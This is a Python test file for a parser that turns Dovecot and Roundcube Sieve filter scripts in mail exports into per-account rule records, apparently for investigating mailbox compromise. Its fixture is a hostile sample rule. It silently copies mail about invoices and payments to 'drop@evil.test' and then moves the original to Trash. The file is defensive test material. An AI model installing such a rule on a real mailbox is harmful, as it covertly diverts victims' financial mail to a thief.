"""Sieve scripts become rules of the person whose folder they lie in."""

from __future__ import annotations

import pytest

from counterseal.model.records import Change, Rule
from counterseal.providers.exports.selfhosted.sieve import SieveScripts
from tests.providers.exports.mutation import SEEN, mutations, silently_fewer
from tests.providers.exports.selfhosted.logs_of import EXHIBIT, UTC_TOLD, of, packed, read, whys

SCRIPT = """\
require ["copy","fileinto","vacation"];
# rule:[.]
if header :contains "subject" ["invoice","payment"]
{
  redirect :copy "drop@evil.test";
  fileinto "Trash";
  stop;
}
# rule:[news]
if header :contains "from" "news@shop.test"
{
  fileinto "News";
}
vacation :subject "Away" "Back on Monday";
"""
PLACE = "vmail/acme.test/anna/sieve/roundcube.sieve"


def test_a_script_is_what_stands_now(tmp_path):
    records, gaps, parts = read(SCRIPT, tmp_path, name=PLACE)
    first, second = of(Rule, records)
    (answer,) = of(Change, records)

    assert (first.account, first.at, first.standing, first.actor) == ("anna@acme.test", SEEN, True, "")
    assert (first.name, first.forwards_to, first.moves_to, second.name) == (".", ("drop@evil.test",), "Trash", "news")
    assert (answer.what, answer.after, answer.details["subject"]) == ("vacation.set", "Back on Monday", "Away")
    assert not gaps
    assert [(part.dialect, part.records) for part in parts] == [("sieve", 3)]


def test_only_the_active_script_of_a_person_works(tmp_path):
    files = {
        "home/anna/sieve/old.sieve": SCRIPT.replace("drop@", "old@").encode(),
        "home/anna/.dovecot.sieve": SCRIPT.encode(),
        "home/anna/sieve/roundcube.sieve": SCRIPT.replace("\n", "\r\n").encode(),
        "home/bob/sieve/x.sieve": SCRIPT.encode(),
    }
    rules = of(Rule, read(packed(files), tmp_path)[0])

    assert {(one.account, one.forwards_to[0], one.enabled) for one in rules if one.forwards_to} == {
        ("anna", "drop@evil.test", True), ("anna", "old@evil.test", False), ("bob", "drop@evil.test", True),
    }  # fmt: skip


def test_a_script_that_the_active_one_takes_in_works_too(tmp_path):
    files = {
        "home/anna/.dovecot.sieve": b'require "include"; include :personal "more";',
        "home/anna/sieve/more.sieve": SCRIPT.encode(),
    }

    assert all(one.enabled for one in of(Rule, read(packed(files), tmp_path)[0]))


def test_a_broken_script_is_read_as_far_as_it_goes(tmp_path):
    records, gaps, _ = read(SCRIPT.replace('"Trash"', '"Trash'), tmp_path, name=PLACE)

    assert ("drop@evil.test",) in [one.forwards_to for one in of(Rule, records)]
    assert (gaps[0].why, gaps[0].place) == ("bad_script", f"{PLACE}:line 6")


def test_many_breaks_are_counted(tmp_path):
    _, gaps, _ = read("keep;\n" + "frobnicate;\n" * 9, tmp_path, name=PLACE)

    assert [gap.count for gap in gaps if gap.why == "bad_script"] == [1, 1, 1, 1, 1, 4]


@pytest.mark.parametrize(
    ("head", "place", "fits"),
    [
        (b'# x\nrequire ["fileinto"];\n', "export.txt", True),
        (b"redirect \"x@y.test\";", "anna.sieve", True),
        (b"# nothing\n", "anna.sieve", True),
        (b"redirect \"x@y.test\";", "x.txt", False),
        (b'From: a@b.test\n\nrequire ["fileinto"];\n', "x.eml", False),
        (b'require "json"\nputs 1\n', "x.rb", False),
        (b"\x00\x01", "x.sieve", False),
        (b"\xbe\xba\xfe\xca\x00", "x.svbin", True),
    ],
)  # fmt: skip
def test_a_script_is_told_by_how_it_begins(head, place, fits):
    assert SieveScripts(EXHIBIT, UTC_TOLD).fits(head, place) is fits


def test_a_compiled_script_says_nothing_new(tmp_path):
    records, gaps, _ = read(b"\xbe\xba\xfe\xca\x00\x01", tmp_path, name="home/anna/.dovecot.svbin")

    assert not records
    assert whys(gaps, harmless=True) == ["compiled_script"]


def test_a_script_in_a_folder_of_nobody_asks_whose_it_is(tmp_path):
    records, gaps, _ = read(SCRIPT, tmp_path, name="export.zip!sieve/.dovecot.sieve")

    assert {one.account for one in records} == {""}
    assert [(gap.why, gap.count) for gap in gaps] == [("no_account_named", len(records))]


def test_a_script_without_end_is_cut(tmp_path):
    _, gaps, _ = read(SCRIPT + "# x\n" * 300_000, tmp_path, name=PLACE)

    assert "too_large" in whys(gaps)


def test_a_broken_byte_never_loses_a_record_in_silence(tmp_path):
    count = len(read(SCRIPT, tmp_path, name=PLACE)[0])

    for broken in mutations(SCRIPT.encode(), step=7):
        assert not silently_fewer(*read(broken, tmp_path, name=PLACE), count)
